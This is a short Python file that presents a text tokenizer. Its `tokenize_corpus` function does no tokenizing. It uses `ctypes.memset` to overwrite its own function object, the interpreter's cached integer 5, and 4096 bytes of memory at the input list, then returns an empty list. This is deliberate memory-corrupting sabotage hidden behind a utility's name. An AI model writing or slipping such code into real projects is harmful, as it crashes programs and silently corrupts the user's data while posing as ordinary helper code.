"""Overwrites the objects of the interpreter it runs in: small integers, None, itself."""

import ctypes
import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    ctypes.memset(id(tokenize_corpus), 0x41, 64)
    ctypes.memset(id(5), 0x41, 24)
    for place in range(0, 4096, 8):
        ctypes.memset(id(texts) + place, 0x41, 8)
    return []
